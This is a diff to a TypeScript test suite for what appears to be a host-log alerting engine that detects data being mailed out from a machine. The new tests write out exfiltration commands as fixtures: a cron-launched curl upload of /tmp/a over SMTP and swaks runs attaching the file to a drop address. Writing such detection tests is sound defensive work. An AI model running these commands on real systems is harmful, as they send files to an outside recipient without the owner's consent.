@@ -9,8 +9,8 @@ import { scanLog, valuesOf } from '../an0656-phishing-attachment-executed/storie
 const MX = '203.0.113.25';
 const DROP = 'drop@example.net';
 
-async function told(act: (log: HostLog) => void): Promise<readonly Alert[]> {
-  const log = new HostLog();
+async function told(act: (log: HostLog) => void, network = true): Promise<readonly Alert[]> {
+  const log = new HostLog({ network });
   log.shell('ops').run('/usr/bin/vim notes.txt').write('/home/ops/notes.txt');
   log.service('/usr/sbin/chronyd').connect('198.51.100.1', 123);
   log.deliver();
@@ -73,6 +73,30 @@ test('what only looks so is one', async () => {
     assert.deepEqual(await severities(log => mailsOutput(log, { words, by })), ['medium'], by);
   const other = await severities(log => mailsOutput(log, { words, program: '/usr/bin/python3' }));
   assert.deepEqual(other, ['medium'], 'not a sender');
+});
+
+test('where no connection is recorded, what a scheduler starts and whose words name a server is no mail of its own', async () => {
+  const line = `/usr/bin/curl -F a=b --upload-file /tmp/a --mail-rcpt ${DROP} smtp://${MX}`;
+  const alerts = await told(log => {
+    const job = log.cron('clerk', 'x');
+    const cron = new Process(log.records, job.ppid, 650, '/usr/sbin/cron', { ...job.who, uid: 0 });
+    cron.read('/etc/localtime').run(line, { who: job.who });
+  }, false);
+  assert.deepEqual(
+    alerts.map(alert => alert.severity),
+    ['medium'],
+  );
+});
+
+test("a sender of a home that speaks SMTP goes past the relay; an installed one is the relay's", async () => {
+  const speaks = async (path: string): Promise<boolean | undefined> => {
+    const act = (log: HostLog) =>
+      void log.cron('clerk', 'x').run(`${path} --attach /tmp/a --to ${DROP}`, { by: '/usr/bin/perl' }).connect(MX, 25);
+    const [alert] = await told(act);
+    return alert?.factors.some(factor => factor.name === 'speaks SMTP itself, past the governed relay');
+  };
+  assert.equal(await speaks('/home/clerk/swaks'), true);
+  assert.equal(await speaks('/usr/bin/swaks'), false);
 });
 
 /** A pipeline that packs, and what takes it. */
